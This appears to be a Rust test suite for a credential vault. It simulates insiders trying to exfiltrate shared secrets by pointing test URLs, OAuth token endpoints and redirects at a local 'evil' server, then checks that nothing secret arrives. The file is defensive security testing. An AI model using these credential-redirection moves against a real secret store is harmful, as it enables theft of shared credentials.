//! Insiders against the central promise, "people share credentials without seeing each other's
//! secrets": someone who may manage a credential (a workspace admin, a member with a `manage`
//! share) tries to send its secrets to a server of theirs. Two real local servers: the service
//! the credential was set up for, and the attacker's, which must receive nothing secret.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use actix_web::{web, App, HttpRequest, HttpResponse, HttpServer};
use serde_json::{json, Value};

use crate::helpers::{problem, within_a_second, TestApp};

/// A local HTTP server that records every request it gets (method, path, query, headers and
/// body, as one text) and answers: `/echo/{status}`, `/token` (an OAuth token, after `delay`),
/// `/redirect/{status}?to=` and `/slow` (200 after `delay`).
struct Server {
    address: String,
    seen: Arc<Mutex<Vec<String>>>,
    delay_ms: Arc<Mutex<u64>>,
}

#[derive(Clone)]
struct ServerState {
    seen: Arc<Mutex<Vec<String>>>,
    delay_ms: Arc<Mutex<u64>>,
    tag: String,
}

fn record(st: &ServerState, req: &HttpRequest, body: &str) {
    let mut text = format!("{} {}?{}\n", req.method(), req.path(), req.query_string());
    for (k, v) in req.headers() {
        text.push_str(&format!("{}: {}\n", k, v.to_str().unwrap_or("")));
    }
    text.push('\n');
    text.push_str(body);
    st.seen.lock().expect("lock").push(text);
}

async fn delay(st: &ServerState) {
    let ms = *st.delay_ms.lock().expect("lock");
    if ms > 0 {
        tokio::time::sleep(Duration::from_millis(ms)).await;
    }
}

async fn any(st: web::Data<ServerState>, req: HttpRequest, body: String) -> HttpResponse {
    record(&st, &req, &body);
    let parts: Vec<&str> = req.path().trim_start_matches('/').split('/').collect();
    match parts.as_slice() {
        ["echo", status] => HttpResponse::build(
            actix_web::http::StatusCode::from_u16(status.parse().unwrap_or(200)).expect("status"),
        )
        .finish(),
        ["token"] => {
            // Numbered in the order asked, so a test can tell which call a token came from.
            let n = st
                .seen
                .lock()
                .expect("lock")
                .iter()
                .filter(|r| r.starts_with("POST /token"))
                .count();
            delay(&st).await;
            HttpResponse::Ok().json(json!({"access_token": format!("at-from-{}-{n}", st.tag),
                "refresh_token": format!("rt-from-{}-{n}", st.tag), "expires_in": 3600}))
        }
        ["redirect", status] => {
            let to = url::form_urlencoded::parse(req.query_string().as_bytes())
                .find(|(k, _)| k == "to")
                .map(|(_, v)| v.into_owned())
                .unwrap_or_default();
            HttpResponse::build(
                actix_web::http::StatusCode::from_u16(status.parse().unwrap_or(302))
                    .expect("status"),
            )
            .insert_header(("location", to))
            .finish()
        }
        ["slow"] => {
            delay(&st).await;
            HttpResponse::Ok().finish()
        }
        _ => HttpResponse::NotFound().finish(),
    }
}

impl Server {
    async fn start(tag: &str) -> Server {
        let st = ServerState {
            seen: Arc::default(),
            delay_ms: Arc::default(),
            tag: tag.to_string(),
        };
        let data = web::Data::new(st.clone());
        let server = HttpServer::new(move || {
            App::new()
                .app_data(data.clone())
                .default_service(web::to(any))
        })
        .workers(1)
        .disable_signals()
        .bind("127.0.0.1:0")
        .expect("bind");
        let port = server.addrs()[0].port();
        tokio::spawn(server.run());
        Server {
            address: format!("http://127.0.0.1:{port}"),
            seen: st.seen,
            delay_ms: st.delay_ms,
        }
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().expect("lock").clone()
    }

    fn set_delay(&self, ms: u64) {
        *self.delay_ms.lock().expect("lock") = ms;
    }
}

/// A server allowed to reach 127.0.0.1 (both local servers), with a short outbound timeout.
async fn app() -> TestApp {
    TestApp::spawn_with(|s| {
        s.outbound_allow = "127.0.0.1/32".into();
        s.outbound_timeout_secs = 3;
        s.cors_origins = "https://app.example.com".into();
        s.public_url = Some("https://vault.example.com".into());
    })
    .await
}

async fn json_of(res: reqwest::Response) -> Value {
    res.json().await.expect("json")
}

async fn created(app: &TestApp, token: &str, body: Value) -> String {
    let res = app.post_as(token, "/v1/credentials", &body).await;
    assert_eq!(res.status(), 201, "create");
    json_of(res).await["id"].as_str().expect("id").to_string()
}

/// The secrets of every type, each set up for `good`; (id, type, the secret values).
async fn one_of_each(
    app: &TestApp,
    owner: &str,
    good: &Server,
) -> Vec<(String, &'static str, Vec<&'static str>)> {
    let test = json!({"url": format!("{}/echo/200", good.address)});
    let mut out = Vec::new();
    let id = created(
        app,
        owner,
        json!({"name": "Key", "service": "s", "type": "api_key",
        "data": {"key": "ORIGINAL-api-key-0001", "name": "X-Api-Key"}, "test": test}),
    )
    .await;
    out.push((id, "api_key", vec!["ORIGINAL-api-key-0001"]));
    let id = created(
        app,
        owner,
        json!({"name": "Basic", "service": "s", "type": "basic_auth",
        "data": {"username": "bob", "password": "ORIGINAL-password-0002"}, "test": test}),
    )
    .await;
    out.push((id, "basic_auth", vec!["ORIGINAL-password-0002"]));
    let id = created(app, owner, json!({"name": "OAuth", "service": "s", "type": "oauth2",
        "data": {"grant_type": "authorization_code", "client_id": "cid", "client_secret": "ORIGINAL-client-secret-03",
                 "authorization_url": format!("{}/authorize", good.address), "token_url": format!("{}/token", good.address),
                 "access_token": "ORIGINAL-access-token-04", "refresh_token": "ORIGINAL-refresh-token-05",
                 "token_expires_at": (chrono::Utc::now() + chrono::Duration::hours(1)).to_rfc3339()},
        "test": test})).await;
    out.push((
        id,
        "oauth2",
        vec![
            "ORIGINAL-client-secret-03",
            "ORIGINAL-access-token-04",
            "ORIGINAL-refresh-token-05",
        ],
    ));
    let id = created(app, owner, json!({"name": "Custom", "service": "s", "type": "custom",
        "data": {"account": "acme", "token": "ORIGINAL-custom-token-06"}, "secret_fields": ["token"],
        "test": {"url": format!("{}/echo/200?a={{{{account}}}}", good.address)}})).await;
    out.push((id, "custom", vec!["ORIGINAL-custom-token-06"]));
    out
}

/// Presses "test" and, for oauth2, "refresh", as `who`; returns the answers' statuses.
async fn press_everything(app: &TestApp, who: &str, id: &str, kind: &str) {
    let res = app
        .post_as(who, &format!("/v1/credentials/{id}/test"), &json!({}))
        .await;
    assert!(
        res.status() == 200 || res.status() == 422,
        "test: {}",
        res.status()
    );
    if kind == "oauth2" {
        let _ = app
            .post_as(who, &format!("/v1/credentials/{id}/refresh"), &json!({}))
            .await;
    }
}

/// The two servers, a workspace with an owner and an admin, and one credential of each type set
/// up by the owner for the good server.
struct Scene {
    app: TestApp,
    good: Server,
    evil: Server,
    owner: String,
    admin: String,
    creds: Vec<(String, &'static str, Vec<&'static str>)>,
    all_secrets: Vec<&'static str>,
}

impl Scene {
    async fn new() -> Scene {
        let app = app().await;
        let good = Server::start("good").await;
        let evil = Server::start("evil").await;
        let (_, owner) = app.signup("ada@example.com").await;
        let (_, admin) = app.user_with_role(&owner, "eve@example.com", "admin").await;
        let creds = one_of_each(&app, &owner, &good).await;
        let all_secrets = creds.iter().flat_map(|c| c.2.clone()).collect();
        Scene {
            app,
            good,
            evil,
            owner,
            admin,
            creds,
            all_secrets,
        }
    }
}

fn assert_nothing_secret(server: &Server, secrets: &[&str]) {
    for r in server.requests() {
        for s in secrets {
            assert!(!r.contains(s), "the attacker's server received {s}:\n{r}");
        }
    }
}

#[tokio::test]
async fn a_destination_moved_to_another_origin_needs_the_secret_again_from_anyone() {
    let Scene {
        app,
        good,
        evil,
        owner,
        admin,
        creds,
        all_secrets,
    } = Scene::new().await;
    for (id, kind, _) in &creds {
        let path = format!("/v1/credentials/{id}");
        // A custom credential's test carries only the secrets its URL names.
        let evil_test = match *kind {
            "custom" => format!("{}/echo/200?t={{{{token}}}}", evil.address),
            _ => format!("{}/echo/200", evil.address),
        };
        let mut moves = vec![("test.url", json!({"test": {"url": evil_test}}))];
        if *kind == "oauth2" {
            moves.push((
                "data.token_url",
                json!({"data": {"token_url": format!("{}/token", evil.address)}}),
            ));
            moves.push((
                "data.authorization_url",
                json!({"data": {"authorization_url": format!("{}/authorize", evil.address)}}),
            ));
            // Sending some other field along is not sending the secret again.
            moves.push(("data.token_url", json!({"data": {"token_url": format!("{}/token", evil.address), "client_id": "x", "refresh_token": null}})));
        }
        if *kind == "custom" {
            // The same origin, but now the secret goes into the URL.
            moves.push((
                "test.url",
                json!({"test": {"url": format!("{}/echo/200?t={{{{token}}}}", good.address)}}),
            ));
            moves.push(("test.url", json!({"test": {"url": format!("{}/echo/200?t={{{{token}}}}&a={{{{account}}}}", evil.address)}, "data": {"account": "x"}})));
        }
        // The admin (manage through the role) and the owner alike.
        for who in [&admin, &owner] {
            for (field, body) in &moves {
                let (status, p) = problem(app.patch_as(who, &path, body).await).await;
                assert_eq!(status, 422, "{kind} {body}");
                assert_eq!(p["code"], "validation_failed");
                let entry = p["errors"]
                    .as_array()
                    .expect("errors")
                    .iter()
                    .find(|e| e["field"] == *field)
                    .unwrap_or_else(|| panic!("{kind}: an entry for {field}: {p}"));
                let msg = entry["message"].as_str().expect("message");
                assert!(msg.contains("again"), "{msg}");
                assert!(!p.to_string().contains("ORIGINAL"), "{p}");
            }
        }
        // Nothing changed: the test still goes to the right place.
        let c = json_of(app.get_as(&owner, &path).await).await;
        assert!(c["test"]["url"]
            .as_str()
            .expect("url")
            .starts_with(&good.address));
        press_everything(&app, &admin, id, kind).await;
    }
    assert!(evil.requests().is_empty(), "{:?}", evil.requests());
    assert!(
        !good.requests().is_empty(),
        "the tests did reach the real service"
    );
    // A custom test that names no secret field sends none, so it moves freely; its secrets stay.
    let (custom, _, _) = &creds[3];
    let res = app
        .patch_as(
            &admin,
            &format!("/v1/credentials/{custom}"),
            &json!({"test": {"url": format!("{}/echo/200?a={{{{account}}}}", evil.address)}}),
        )
        .await;
    assert_eq!(res.status(), 200);
    press_everything(&app, &admin, custom, "custom").await;
    assert_eq!(evil.requests().len(), 1);
    assert_nothing_secret(&evil, &all_secrets);
}

#[tokio::test]
async fn sending_the_secret_again_moves_it_and_only_the_new_secret_travels() {
    let Scene {
        app,
        good,
        evil,
        owner,
        admin,
        creds,
        all_secrets,
    } = Scene::new().await;
    for (id, kind, _) in &creds {
        let path = format!("/v1/credentials/{id}");
        let before = json_of(app.get_as(&owner, &path).await).await["version"]
            .as_i64()
            .expect("v");
        let body = match *kind {
            "api_key" => {
                json!({"test": {"url": format!("{}/echo/200", evil.address)}, "data": {"key": "attacker-chosen-key-1"}})
            }
            "basic_auth" => {
                json!({"test": {"url": format!("{}/echo/200", evil.address)}, "data": {"password": "attacker-chosen-pw-2"}})
            }
            "oauth2" => {
                json!({"data": {"token_url": format!("{}/token", evil.address), "client_secret": "attacker-chosen-cs-3",
                                         "access_token": "attacker-chosen-at-5"},
                                "test": {"url": format!("{}/echo/200", evil.address)}})
            }
            _ => {
                json!({"test": {"url": format!("{}/echo/200?t={{{{token}}}}", evil.address)}, "data": {"token": "attacker-chosen-tok-4"}})
            }
        };
        let res = app.patch_as(&admin, &path, &body).await;
        assert_eq!(res.status(), 200, "{kind}");
        let c = json_of(res).await;
        assert_eq!(
            c["version"].as_i64(),
            Some(before + 1),
            "a move makes a version"
        );
        if *kind == "oauth2" {
            // The old provider's tokens do not follow the credential elsewhere: the refresh
            // token is gone, the access token is the one sent.
            assert!(c["data"].get("refresh_token").is_none(), "{c}");
            assert_eq!(c["data"]["access_token"], "••••at-5");
        }
        press_everything(&app, &admin, id, kind).await;
    }
    // The attacker received requests, each with only what the attacker had sent in.
    let got = evil.requests();
    assert!(
        got.iter()
            .any(|r| r.contains("X-Api-Key: attacker-chosen-key-1")
                || r.contains("x-api-key: attacker-chosen-key-1")),
        "{got:?}"
    );
    assert!(
        got.iter().any(|r| r.contains("t=attacker-chosen-tok-4")),
        "{got:?}"
    );
    assert!(
        got.iter()
            .any(|r| r.contains("Bearer attacker-chosen-at-5")),
        "{got:?}"
    );
    assert_nothing_secret(&evil, &all_secrets);
    // A restore of the version whose secrets were set for the real service is refused while the
    // test points elsewhere.
    let (key_id, _, _) = &creds[0];
    let (status, p) = problem(
        app.post_as(
            &admin,
            &format!("/v1/credentials/{key_id}/versions/1/restore"),
            &json!({}),
        )
        .await,
    )
    .await;
    assert_eq!(status, 422, "{p}");
    assert_eq!(p["errors"][0]["field"], "test.url");
    assert!(p["errors"][0]["message"]
        .as_str()
        .expect("m")
        .contains("version 1"));
    press_everything(&app, &admin, key_id, "api_key").await;
    assert_nothing_secret(&evil, &all_secrets);
    // Moved back with a key (any key) sent again, version 1 may come back where it was set for.
    let res = app
        .patch_as(&owner, &format!("/v1/credentials/{key_id}"), &json!({"test": {"url": format!("{}/echo/204", good.address)}, "data": {"key": "placeholder-key-5"}}))
        .await;
    assert_eq!(res.status(), 200);
    let res = app
        .post_as(
            &owner,
            &format!("/v1/credentials/{key_id}/versions/1/restore"),
            &json!({}),
        )
        .await;
    assert_eq!(res.status(), 200);
    let before = good.requests().len();
    press_everything(&app, &owner, key_id, "api_key").await;
    let after = good.requests();
    assert!(
        after[before..]
            .iter()
            .any(|r| r.contains("ORIGINAL-api-key-0001")),
        "the restored key works where it belongs"
    );
    assert_nothing_secret(&evil, &all_secrets);
}

#[tokio::test]
async fn the_same_origin_needs_nothing_and_rotate_is_bound_too() {
    let Scene {
        app,
        good,
        evil,
        owner,
        admin,
        creds,
        ..
    } = Scene::new().await;
    for (id, kind, _) in &creds {
        let path = format!("/v1/credentials/{id}");
        let version = json_of(app.get_as(&owner, &path).await).await["version"].clone();
        let mut body = json!({"test": {"url": format!("{}/echo/204?other=path", good.address)}, "name": "renamed"});
        if *kind == "oauth2" {
            body["data"] =
                json!({"token_url": format!("{}/token?v=2", good.address), "scopes": ["a"]});
        }
        let res = app.patch_as(&admin, &path, &body).await;
        assert_eq!(res.status(), 200, "{kind}");
        let c = json_of(res).await;
        assert_eq!(
            c["version"], version,
            "{kind}: nothing secret changed, no version"
        );
        if *kind == "oauth2" {
            assert_eq!(
                c["data"]["access_token"]
                    .as_str()
                    .map(|s| s.starts_with("••••")),
                Some(true),
                "tokens kept: {c}"
            );
        }
    }
    // Rotate is a change like any other: a token_url moved there needs the client secret.
    let (oauth, _, _) = &creds[2];
    let (status, p) = problem(
        app.post_as(&admin, &format!("/v1/credentials/{oauth}/rotate"),
            &json!({"data": {"token_url": format!("{}/token", evil.address), "access_token": "x-access-0000000"}})).await,
    )
    .await;
    assert_eq!(status, 422);
    assert_eq!(p["errors"][0]["field"], "data.token_url");
    let _ = app
        .post_as(
            &admin,
            &format!("/v1/credentials/{oauth}/refresh"),
            &json!({}),
        )
        .await;
    assert!(evil.requests().is_empty());
}

#[tokio::test]
async fn a_redirect_to_another_origin_carries_nothing() {
    let app = app().await;
    let good = Server::start("good").await;
    let evil = Server::start("evil").await;
    let (_, owner) = app.signup("ada@example.com").await;
    let to_evil = |status: u16, path: &str| {
        format!(
            "{}/redirect/{status}?to={}",
            good.address,
            url::form_urlencoded::byte_serialize(format!("{}{path}", evil.address).as_bytes())
                .collect::<String>()
        )
    };
    for status in [301, 302, 303, 307, 308] {
        let id = created(&app, &owner, json!({"name": "Key", "service": "s", "type": "api_key",
            "data": {"key": "ORIGINAL-api-key-0001"}, "test": {"url": to_evil(status, "/echo/200"), "method": "POST"}})).await;
        let r = json_of(
            app.post_as(&owner, &format!("/v1/credentials/{id}/test"), &json!({}))
                .await,
        )
        .await;
        assert_eq!(r["ok"], false, "{status}: {r}");
        let err = r["error"].as_str().expect("error");
        assert!(err.contains(&evil.address.replace("http://", "")), "{err}");
        assert!(err.contains("another origin"), "{err}");
    }
    // A token endpoint that answers 307 to another origin gets no second request body there.
    let id = created(&app, &owner, json!({"name": "OAuth", "service": "s", "type": "oauth2",
        "data": {"grant_type": "client_credentials", "client_id": "cid", "client_secret": "ORIGINAL-client-secret-03",
                 "token_url": to_evil(307, "/token")}})).await;
    let (status, p) = problem(
        app.post_as(&owner, &format!("/v1/credentials/{id}/refresh"), &json!({}))
            .await,
    )
    .await;
    assert_eq!(status, 503, "{p}");
    assert!(
        p["detail"]
            .as_str()
            .expect("detail")
            .contains("another origin"),
        "{p}"
    );
    assert!(evil.requests().is_empty(), "{:?}", evil.requests());
    // Within the origin a redirect is followed, the credential along with it.
    let same = format!("{}/redirect/307?to=%2Fecho%2F200", good.address);
    let id = created(
        &app,
        &owner,
        json!({"name": "Key", "service": "s", "type": "api_key",
        "data": {"key": "ORIGINAL-api-key-0001"}, "test": {"url": same}}),
    )
    .await;
    let r = json_of(
        app.post_as(&owner, &format!("/v1/credentials/{id}/test"), &json!({}))
            .await,
    )
    .await;
    assert_eq!(r["ok"], true, "{r}");
    assert!(good
        .requests()
        .iter()
        .any(|r| r.starts_with("GET /echo/200") && r.contains("ORIGINAL-api-key-0001")));
}

#[tokio::test]
async fn engine_tokens_are_an_owners_act() {
    let app = app().await;
    let (signup, owner) = app.signup("ada@example.com").await;
    let owner_id = signup["user"]["id"].as_str().expect("id").to_string();
    let (_, admin) = app.user_with_role(&owner, "eve@example.com", "admin").await;
    let (member_id, member) = app.user_with_role(&owner, "mo@example.com", "member").await;
    let engine_body = json!({"name": "engine", "kind": "engine", "scopes": ["credentials:resolve", "workflows:write"]});
    let (status, p) = problem(app.post_as(&admin, "/v1/tokens", &engine_body).await).await;
    assert_eq!(status, 403, "{p}");
    assert_eq!(p["code"], "forbidden");
    let (status, _) = problem(app.post_as(&member, "/v1/tokens", &engine_body).await).await;
    assert_eq!(status, 403);
    // An owner's engine token shows who made it.
    let engine = app.engine_token(&owner).await;
    let tokens = json_of(app.get_as(&owner, "/v1/tokens").await).await;
    let listed = tokens["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|t| t["kind"] == "engine")
        .cloned()
        .expect("engine");
    assert_eq!(listed["created_by"], json!(owner_id));
    // A person registers workflows only for themselves, whatever their role.
    let wf = |owner: &str| json!({"name": "flow", "owner_id": owner, "credential_ids": []});
    let (status, p) = problem(
        app.put_json_as(&admin, "/v1/workflows/admin-for-member", &wf(&member_id))
            .await,
    )
    .await;
    assert_eq!(status, 403, "{p}");
    let (status, _) = problem(
        app.put_json_as(&owner, "/v1/workflows/owner-for-member", &wf(&member_id))
            .await,
    )
    .await;
    assert_eq!(status, 403);
    // Nor change someone else's: the member's own workflow stays theirs.
    assert_eq!(
        app.put_json_as(&member, "/v1/workflows/members", &wf(&member_id))
            .await
            .status(),
        201
    );
    let admin_me = json_of(app.get_as(&admin, "/v1/me").await).await["id"]
        .as_str()
        .expect("id")
        .to_string();
    let (status, _) = problem(
        app.put_json_as(&admin, "/v1/workflows/members", &wf(&admin_me))
            .await,
    )
    .await;
    assert_eq!(status, 403);
    let (status, _) = problem(
        app.put_json_as(
            &admin,
            "/v1/workflows/members",
            &json!({"name": "flow", "owner_id": member_id, "credential_ids": []}),
        )
        .await,
    )
    .await;
    assert_eq!(status, 403);
    // The engine registers for anyone.
    assert_eq!(
        app.put_json_as(&engine, "/v1/workflows/engine-for-member", &wf(&member_id))
            .await
            .status(),
        201
    );
    assert_eq!(
        app.put_json_as(&admin, "/v1/workflows/admins-own", &wf(&admin_me))
            .await
            .status(),
        201
    );
}

/// Whether `token` is refused on `app` within the contract's second.
async fn refused_within_a_second(app: &TestApp, token: &str) -> bool {
    within_a_second(|| async { app.get_as(token, "/v1/workflows").await.status() == 401 }).await
}

#[tokio::test]
async fn an_engine_token_stops_on_every_instance_when_its_creator_stops_being_an_owner() {
    let app = app().await;
    let other = crate::helpers::spawn_on(&app.db).await;
    let (_, first) = app.signup("ada@example.com").await;
    for (n, change) in ["disabled", "demoted", "erased"].into_iter().enumerate() {
        let email = format!("owner{n}@example.com");
        let (second_id, second) = app.user_with_role(&first, &email, "owner").await;
        let engine = app.engine_token(&second).await;
        let tokens = json_of(app.get_as(&first, "/v1/tokens").await).await;
        let token_id = tokens["items"]
            .as_array()
            .expect("items")
            .iter()
            .find(|t| t["created_by"] == json!(second_id))
            .expect("listed")["id"]
            .clone();
        // Both instances know the token (and may have it cached).
        for a in [&app, &other] {
            assert_eq!(a.get_as(&engine, "/v1/workflows").await.status(), 200);
        }
        let path = format!("/v1/users/{second_id}");
        let res = match change {
            "disabled" => {
                app.patch_as(&first, &path, &json!({"disabled": true}))
                    .await
            }
            "demoted" => app.patch_as(&first, &path, &json!({"role": "admin"})).await,
            _ => app.delete_as(&first, &path).await,
        };
        assert!(res.status().is_success(), "{change}: {}", res.status());
        for a in [&app, &other] {
            assert!(
                refused_within_a_second(a, &engine).await,
                "{change}: still accepted"
            );
        }
        // On the record, with the reason.
        let audit = json_of(app.get_as(&first, "/v1/audit?action=token.revoked").await).await;
        let ev = audit["items"]
            .as_array()
            .expect("items")
            .iter()
            .find(|e| e["target"]["id"] == token_id)
            .unwrap_or_else(|| panic!("{change}: a token.revoked event: {audit}"))
            .clone();
        let reason = ev["details"]["reason"].as_str().expect("reason");
        assert!(reason.starts_with("creator"), "{reason}");
        // Listed no more.
        let tokens = json_of(app.get_as(&first, "/v1/tokens").await).await;
        assert!(!tokens.to_string().contains(token_id.as_str().expect("id")));
    }
}

#[tokio::test]
async fn made_up_methods_do_not_grow_the_metrics() {
    let app = app().await;
    let series = |text: &str| text.lines().filter(|l| !l.starts_with('#')).count();
    // Warm up: every label the loop below can produce appears once first.
    let client = reqwest::Client::new();
    for m in ["BREW", "GET"] {
        let _ = client
            .request(
                reqwest::Method::from_bytes(m.as_bytes()).expect("m"),
                app.url("/v1/nowhere"),
            )
            .send()
            .await;
    }
    let _ = app.get("/metrics").await;
    let before = series(&app.get("/metrics").await.text().await.expect("text"));
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..1000 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let method: String = (0..8)
            .map(|i| (b'A' + ((seed >> (i * 5)) % 26) as u8) as char)
            .collect();
        let res = client
            .request(
                reqwest::Method::from_bytes(method.as_bytes()).expect("m"),
                app.url("/v1/nowhere"),
            )
            .send()
            .await
            .expect("request");
        assert!(res.status().is_client_error());
    }
    let after = app.get("/metrics").await.text().await.expect("text");
    assert_eq!(series(&after), before, "{after}");
    assert!(after.contains("method=\"other\""));
}

/// A POST to `path` sent now and answered later; its status.
fn in_background(
    app: &TestApp,
    token: &str,
    path: String,
) -> tokio::task::JoinHandle<reqwest::StatusCode> {
    let (url, token) = (app.url(&path), token.to_string());
    tokio::spawn(async move {
        reqwest::Client::new()
            .post(url)
            .bearer_auth(token)
            .send()
            .await
            .expect("request")
            .status()
    })
}

#[tokio::test]
async fn an_outbound_call_is_on_the_record_when_the_credential_goes_meanwhile() {
    let app = app().await;
    let good = Server::start("good").await;
    let (_, owner) = app.signup("ada@example.com").await;
    good.set_delay(800);
    // A connection test in flight while the credential is deleted.
    let id = created(&app, &owner, json!({"name": "Slow", "service": "s", "type": "api_key",
        "data": {"key": "ORIGINAL-api-key-0001"}, "test": {"url": format!("{}/slow", good.address)}})).await;
    let test = in_background(&app, &owner, format!("/v1/credentials/{id}/test"));
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        app.delete_as(&owner, &format!("/v1/credentials/{id}"))
            .await
            .status(),
        200
    );
    assert_eq!(test.await.expect("join"), 410);
    let events = json_of(
        app.get_as(&owner, &format!("/v1/credentials/{id}/audit"))
            .await,
    )
    .await;
    let tested = events["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|e| e["action"] == "credential.tested")
        .cloned()
        .expect("a credential.tested event");
    assert_eq!(tested["details"]["ok"], true);
    assert_eq!(tested["details"]["credential_deleted_meanwhile"], true);
    // A refresh in flight while the credential is deleted and purged.
    let id = created(&app, &owner, json!({"name": "OAuth", "service": "s", "type": "oauth2",
        "data": {"grant_type": "client_credentials", "client_id": "cid", "client_secret": "ORIGINAL-client-secret-03",
                 "token_url": format!("{}/token", good.address)}})).await;
    let refresh = in_background(&app, &owner, format!("/v1/credentials/{id}/refresh"));
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        app.delete_as(&owner, &format!("/v1/credentials/{id}"))
            .await
            .status(),
        200
    );
    assert_eq!(
        app.delete_as(&owner, &format!("/v1/credentials/{id}?purge=true"))
            .await
            .status(),
        204
    );
    let status = refresh.await.expect("join");
    assert!(
        status.is_server_error() || status.is_client_error(),
        "{status}"
    );
    let audit = json_of(
        app.get_as(
            &owner,
            &format!("/v1/audit?credential_id={id}&action=credential.refresh_failed"),
        )
        .await,
    )
    .await;
    let ev = &audit["items"][0];
    assert_eq!(ev["outcome"], "failure", "{audit}");
    assert_eq!(ev["details"]["provider_answer"], "granted");
    assert!(
        !audit.to_string().contains("at-from-good"),
        "no token in the event"
    );
}

#[tokio::test]
async fn an_authorization_finishes_only_for_someone_who_still_manages_the_credential() {
    let app = app().await;
    let good = Server::start("good").await;
    let (_, owner) = app.signup("ada@example.com").await;
    let (member_id, member) = app.user_with_role(&owner, "mo@example.com", "member").await;
    let id = created(&app, &owner, json!({"name": "OAuth", "service": "s", "type": "oauth2",
        "data": {"grant_type": "authorization_code", "client_id": "cid", "client_secret": "ORIGINAL-client-secret-03",
                 "authorization_url": format!("{}/authorize", good.address), "token_url": format!("{}/token", good.address)}})).await;
    let shares = |access: Option<&str>| match access {
        Some(a) => {
            json!({"shares": [{"principal_type": "user", "principal_id": member_id, "access": a}]})
        }
        None => json!({"shares": []}),
    };
    for return_to in [None, Some("https://app.example.com/done")] {
        let res = app
            .put_json_as(
                &owner,
                &format!("/v1/credentials/{id}/shares"),
                &shares(Some("manage")),
            )
            .await;
        assert_eq!(res.status(), 200);
        let body = match return_to {
            Some(r) => json!({"return_to": r}),
            None => json!({}),
        };
        let start = json_of(
            app.post_as(
                &member,
                &format!("/v1/credentials/{id}/oauth/authorize"),
                &body,
            )
            .await,
        )
        .await;
        let state = start["state"].as_str().expect("state").to_string();
        // The share is taken away while the person is at the provider.
        let res = app
            .put_json_as(
                &owner,
                &format!("/v1/credentials/{id}/shares"),
                &shares(None),
            )
            .await;
        assert_eq!(res.status(), 200);
        let before = good.requests().len();
        let res = app
            .get(&format!("/v1/oauth/callback?code=the-code&state={state}"))
            .await;
        match return_to {
            None => {
                let (status, p) = problem(res).await;
                assert_eq!(status, 400);
                assert_eq!(p["code"], "invalid_state");
            }
            Some(r) => {
                assert_eq!(res.status(), 302);
                let to = res.headers()["location"]
                    .to_str()
                    .expect("location")
                    .to_string();
                assert!(to.starts_with(r), "{to}");
                assert!(
                    to.contains("error=invalid_state") && to.contains("error_description="),
                    "{to}"
                );
            }
        }
        assert_eq!(good.requests().len(), before, "no code exchange");
        let c = json_of(app.get_as(&owner, &format!("/v1/credentials/{id}")).await).await;
        assert_eq!(c["version"], 1, "nothing stored");
    }
}

#[tokio::test]
async fn a_refresh_in_flight_is_not_stored_under_destinations_moved_meanwhile() {
    let app = app().await;
    let good = Server::start("good").await;
    let evil = Server::start("evil").await;
    let (_, owner) = app.signup("ada@example.com").await;
    let (_, admin) = app.user_with_role(&owner, "eve@example.com", "admin").await;
    let id = created(&app, &owner, json!({"name": "OAuth", "service": "s", "type": "oauth2",
        "data": {"grant_type": "client_credentials", "client_id": "cid", "client_secret": "ORIGINAL-client-secret-03",
                 "token_url": format!("{}/token", good.address)},
        "test": {"url": format!("{}/echo/200", good.address)}})).await;
    good.set_delay(800);
    // A refresh with the real client secret is out at the provider...
    let refresh = in_background(&app, &admin, format!("/v1/credentials/{id}/refresh"));
    tokio::time::sleep(Duration::from_millis(300)).await;
    // ...when the test is moved to the attacker's server with a made-up client secret.
    let res = app
        .patch_as(&admin, &format!("/v1/credentials/{id}"), &json!({"test": {"url": format!("{}/echo/200", evil.address)}, "data": {"client_secret": "attacker-chosen-cs-3"}}))
        .await;
    assert_eq!(res.status(), 200);
    let status = refresh.await.expect("join");
    assert_eq!(status, 503, "the answer to the real secret is discarded");
    good.set_delay(0);
    let res = app
        .post_as(&admin, &format!("/v1/credentials/{id}/test"), &json!({}))
        .await;
    assert_eq!(res.status(), 200);
    // What reaches the attacker was obtained with the attacker's secret, never the first token.
    let got = evil.requests();
    assert!(!got.is_empty());
    for r in &got {
        assert!(
            !r.contains("at-from-good-1"),
            "the token of the real secret reached the attacker:\n{r}"
        );
        assert!(!r.contains("ORIGINAL"), "{r}");
    }
    let audit = json_of(
        app.get_as(
            &owner,
            &format!("/v1/audit?credential_id={id}&action=credential.refresh_failed"),
        )
        .await,
    )
    .await;
    assert_eq!(
        audit["items"][0]["details"]["provider_answer"], "granted",
        "{audit}"
    );
}
